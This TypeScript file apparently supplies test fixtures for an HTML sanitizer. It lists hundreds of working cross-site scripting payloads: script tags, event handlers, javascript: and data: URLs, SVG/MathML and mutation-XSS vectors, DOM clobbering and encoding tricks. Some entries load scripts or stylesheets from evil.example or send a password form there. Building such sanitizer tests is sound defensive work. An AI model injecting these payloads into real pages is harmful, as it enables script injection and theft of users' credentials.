/** Texts that try to run a script (`alert`) or to take over the page when they are shown as HTML. */
export const hostileHtml: readonly string[] = [
  ...scripts(),
  ...handlers(),
  ...everyHandler(),
  ...addresses(),
  ...addressed(),
  ...foreign(),
  ...rawText(),
  ...twoReadings(),
  ...clobbering(),
  ...disguises(),
  ...pageTakers(),
]

/** One of them, as a database can hold it; whatever the number, there is one. */
export function hostile(number: number): string {
  return (hostileHtml[number % hostileHtml.length] ?? '').replaceAll('\u0000', '\uFFFD')
}

function scripts(): string[] {
  return [
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script src=//evil.example/x.js></script>',
    '<script src="data:text/javascript,alert(1)"></script>',
    '<script type=module>alert(1)</script>',
    '<script/x>alert(1)</script>',
    '<script\n>alert(1)</script\n>',
    '<script>alert(1)',
    '<script\u0000>alert(1)</script>',
    '<<script>alert(1)//<</script>',
    '<p>ok<script>alert(1)</script>ok</p>',
    '<table><script>alert(1)</script></table>',
    '<template><script>alert(1)</script></template>',
    '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
    '<!--><script>alert(1)</script>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '</p></div></main><script>alert(1)</script>',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '--><script>alert(1)</script>',
    '<script>/*</script><script>*/alert(1)</script>',
  ]
}

function handlers(): string[] {
  const elements = [
    ...['p', 'h2', 'ul', 'li', 'a', 'table', 'td', 'code', 'strong', 'span', 'div', 'figure'],
    ...['video', 'audio', 'details', 'marquee', 'body', 'input autofocus', 'select autofocus'],
    ...['textarea autofocus', 'button autofocus', 'object', 'embed', 'iframe', 'keygen'],
  ]
  const events = ['onclick', 'onmouseover', 'onfocus', 'onload', 'onerror', 'onanimationstart']
  return [
    ...elements.map((element) => `<${element} onfocus=alert(1) onerror=alert(1) tabindex=0>x`),
    ...events.map((event) => `<img src=x ${event}=alert(1)>`),
    '<img src=x OnErRoR=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\u0000=alert(1)>',
    '<img src=x on\u0000error=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<img src=`x` onerror=`alert(1)`>',
    '<img """><img src=x onerror=alert(1)>',
    '<img src=x:x onerror=alert`1`>',
    '<img src onerror=alert(1)//',
    '<img src=x alt="`><img src=x onerror=alert(1)>">',
    '<img src=x title="</title><img src=x onerror=alert(1)>">',
    '<a title="x" href="/x" onclick="alert(1)">x</a>',
    '<p title="&quot; onmouseover=alert(1) x=&quot;">x</p>',
    '<p lang=\'" onclick=alert(1) x="\'>x</p>',
    '<video><source onerror=alert(1)></video>',
    '<details open ontoggle=alert(1)>x</details>',
    '<dialog open oncancel=alert(1)>x</dialog>',
    '<p popover id=x onbeforetoggle=alert(1)>x</p>',
  ]
}

/** Each handler that HTML and SVG know, on what is most likely to be let through. */
function everyHandler(): string[] {
  const handlers = `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
    beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change
    click close command contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick drag
    dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout
    formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata
    loadedmetadata loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover
    mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown
    pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange
    readystatechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked
    seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel
    touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload
    volumechange waiting webkitanimationend webkitmouseforceup webkittransitionend wheel`
  return handlers.split(/\s+/u).map((handler) => `<p on${handler}=alert(1)>x`)
}

/** Each attribute that takes an address, on each element that follows it, by each scheme that runs. */
function addressed(): string[] {
  const takers = [
    ...[
      'a href',
      'a ping',
      'a xlink:href',
      'area href',
      'audio src',
      'base href',
      'blockquote cite',
      'body background',
    ],
    ...[
      'button formaction',
      'del cite',
      'embed src',
      'form action',
      'frame src',
      'head profile',
      'iframe src',
      'iframe longdesc',
    ],
    ...[
      'img src',
      'img srcset',
      'img longdesc',
      'img lowsrc',
      'img dynsrc',
      'input src',
      'input formaction',
      'ins cite',
    ],
    ...[
      'link href',
      'object data',
      'object classid',
      'object codebase',
      'q cite',
      'script src',
      'source src',
      'source srcset',
    ],
    ...[
      'svg xml:base',
      'table background',
      'td background',
      'track src',
      'video poster',
      'video src',
      'html manifest',
    ],
  ]
  const schemes = [
    'javascript:alert(1)',
    'vbscript:alert(1)',
    'data:text/html,<svg/onload=alert(1)>',
    'data:image/svg+xml,<svg/onload=alert(1)>',
  ]
  return takers.flatMap((taker) => schemes.map((scheme) => `<${taker}='${scheme}'>x`))
}

function addresses(): string[] {
  const bad = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java&#10;script:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript\u003Aalert(1)',
    '\u00A0javascript:alert(1)',
    '\u200Bjavascript:alert(1)',
    '\uFEFFjavascript:alert(1)',
    'javascript://%0aalert(1)',
    'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>',
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'DATA:text/html,x',
    'blob:https://evil.example/1',
    'filesystem:https://evil.example/x',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'jar:javascript:alert(1)',
    'file:///etc/passwd',
    'intent://x#Intent;scheme=javascript;end',
  ]
  return [
    ...bad.map((address) => `<a href="${address}">x</a>`),
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1) 1x">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<a href="/x" ping="javascript:alert(1)">x</a>',
    '<a href="/x" target="opener">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<area href="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  ]
}

function foreign(): string[] {
  return [
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)//',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</math>',
  ]
}

function rawText(): string[] {
  const elements = [
    'noscript',
    'xmp',
    'noembed',
    'noframes',
    'iframe',
    'style',
    'title',
    'textarea',
  ]
  return [
    ...elements.map(
      (element) => `<${element}><p title="</${element}><img src=x onerror=alert(1)>"></p>`,
    ),
    ...elements.map((element) => `<${element}><img src=x onerror=alert(1)></${element}>`),
    '<plaintext><img src=x onerror=alert(1)>',
    '<style>@import "javascript:alert(1)";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="x:expression(alert(1))">x</p>',
  ]
}

/** Read one way by a parser and, once written out, another way by the next: mutation XSS. */
function twoReadings(): string[] {
  return [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><g title="</style><img src onerror=alert(1)>">',
    '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
    '<noscript><p id="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<pre>&lt;img src=x onerror=alert(1)&gt;</pre>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    '<a href=/1>1<marquee><a href=/2 onclick=alert(1)>2',
    '<p><marquee><p><marquee><table><p onclick=alert(1)>x',
    '<table><tr><td><a href=/1><table><a href=/2 onclick=alert(1)>x',
    '<b><p></b><img src=x onerror=alert(1)></p>',
    '<h2><h2><button><h2><button><p onclick=alert(1)>x',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
    '<select><keygen><img src=x onerror=alert(1)></select>',
    '<table><caption><svg><title></caption><img src=x onerror=alert(1)>',
    '<div id=x><template><form><input name=parentNode></template></form></div>',
    '<image src=x onerror=alert(1)>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<p title="--!><img src=x onerror=alert(1)>">x</p>',
    '<!--!><img src=x onerror=alert(1)>-->',
    '<!-->--!><img src=x onerror=alert(1)>',
    '</br title="><img src=x onerror=alert(1)>">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
  ]
}

function clobbering(): string[] {
  return [
    '<form id=x><input name=attributes><input name=parentNode></form>',
    '<img name=getElementById><img id=cookie>',
    '<a id=defaultView><a id=defaultView name=x href="javascript:alert(1)">',
    '<p id="__proto__" class="constructor">x</p>',
    '<a href="cid:x&quot;onclick=alert(1)//" id=currentScript name=src>x</a>',
    '<div data-content="x" data-action="x" aria-label="x" role=alert slot=x is=x-y part=x>x</div>',
  ]
}

function disguises(): string[] {
  return [
    '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
    '<\u0073cript>alert(1)</script>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<img src=x \u000Conerror=alert(1)>',
    '<img src=x\u2028onerror=alert(1)>',
    '<ımg src=x onerror=alert(1)>',
    '<\u017Fcript>alert(1)</\u017Fcript>',
    '<a href="\u202Ejavascript:alert(1)">x</a>',
    '<a href="https://example.no\u0000javascript:alert(1)">x</a>',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\u003cscript\\u003ealert(1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<x onclick=alert(1)>x</x>',
    '<x-y onclick=alert(1)>x</x-y>',
    '<a\u00A0href="javascript:alert(1)">x</a>',
  ]
}

function pageTakers(): string[] {
  return [
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x></applet>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form action="https://evil.example"><input type=password name=p><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type=image src=x onerror=alert(1)>',
    '<isindex action="javascript:alert(1)">',
    '<portal src="javascript:alert(1)"></portal>',
    '<div class="fixed inset-0 z-50">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
  ]
}
